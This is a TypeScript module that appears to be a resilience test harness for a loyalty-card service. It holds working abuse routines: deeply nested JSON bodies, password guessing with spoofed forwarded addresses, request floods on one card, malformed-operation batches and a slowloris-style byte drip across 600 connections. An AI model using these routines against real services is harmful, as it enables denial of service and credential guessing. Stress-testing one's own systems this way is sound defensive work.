import { once } from 'node:events'
import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { openConnection } from './client.ts'
import { earn } from './purchases.ts'

interface Target {
  url: URL
  /** The stolen key of a register of the chain. */
  key: string
  /** The card of a customer with tens of thousands of lots. */
  card: string
}

interface Attack {
  /** The end of a sentence that begins with "while two clients". */
  what: string
  connections: number
  /** The next request of one connection; resolves with what came of it. */
  strike(target: Target): Promise<string>
}

const BODY_BYTES = 1_000_000

/** The ways that were found in which one client slows the others down. */
export const attacks = {
  nested: {
    what: 'send deeply nested JSON to /v1/enrol',
    connections: 8,
    strike: ({ url }) => knock(url, nested(url)),
  },
  logins: {
    what: 'try passwords at /fleet/login from many addresses',
    connections: 16,
    strike: ({ url }) => knock(url, login(url)),
  },
  card: {
    what: 'earn on one card, 200 at a time',
    connections: 8,
    strike: async ({ url, key, card }) =>
      await post(url, key, () => Array.from({ length: 200 }, () => earn(card))),
  },
  malformed: {
    what: 'send malformed operations, 500 at a time',
    connections: 8,
    strike: async ({ url, key }) => await post(url, key, () => MALFORMED),
  },
  slow: {
    what: 'keep hundreds of bodies coming byte by byte',
    connections: 600,
    strike: ({ url, key }) => drip(url, key),
  },
} satisfies Record<string, Attack>

export type AttackName = keyof typeof attacks

const head = (url: URL, path: string, headers: string, length: number) =>
  `POST ${path} HTTP/1.1\r\nhost: ${url.host}\r\nconnection: close\r\nx-forwarded-for: ${anyAddress()}\r\n` +
  `${headers}content-length: ${length}\r\n\r\n`

const anyAddress = () => [203, 0, 113, 0].map((part) => part || Math.floor(Math.random() * 255)).join('.')

const NESTED = '['.repeat(BODY_BYTES / 2) + ']'.repeat(BODY_BYTES / 2)
const nested = (url: URL) =>
  head(url, '/v1/enrol', 'content-type: application/json\r\n', NESTED.length) + NESTED

function login(url: URL): string {
  const form = `name=somebody${Math.floor(Math.random() * 1e6)}&password=guess`
  const headers = `origin: ${url.origin}\r\ncontent-type: application/x-www-form-urlencoded\r\n`
  return head(url, '/fleet/login', headers, form.length) + form
}

/** Operations with missing and with unknown fields, so that as much as possible is wrong with each. */
const MALFORMED = Array.from({ length: 500 }, () => ({
  ...{ kind: 'redeem', id: 'none', at: 'never', card: 'no card', purchaseKopecks: 'much', points: [] },
  ...Object.fromEntries(Array.from({ length: 40 }, (_, index) => [`unknown${index}`, 'x'.repeat(20)])),
}))

async function post(url: URL, key: string, operationsOf: () => unknown[]): Promise<string> {
  const connection = await openConnection(url, key)
  try {
    const { status } = await connection.post('/v1/operations', JSON.stringify({ operations: operationsOf() }))
    return String(status)
  } finally {
    connection.close()
  }
}

/** Says it and waits for the first word of the answer. */
async function knock(url: URL, text: string): Promise<string> {
  const socket = connect(Number(url.port), url.hostname)
  socket.on('error', () => {})
  socket.write(text, 'latin1')
  const answer = await Promise.race([once(socket, 'data'), once(socket, 'close')])
  socket.destroy()
  return /^HTTP\/1\.1 (\d+)/.exec(String(answer[0]))?.[1] ?? 'no answer'
}

async function drip(url: URL, key: string): Promise<string> {
  const socket = connect(Number(url.port), url.hostname)
  let heard = ''
  socket.on('error', () => {})
  socket.on('data', (data) => {
    heard ||= /^HTTP\/1\.1 (\d+)/.exec(String(data))?.[1] ?? ''
  })
  const headers = `authorization: Bearer ${key}\r\ncontent-type: application/json\r\n`
  socket.write(head(url, '/v1/operations', headers, BODY_BYTES))
  while (!socket.destroyed && !heard) {
    socket.write('[')
    await pause(500)
  }
  socket.destroy()
  return heard || 'cut off'
}
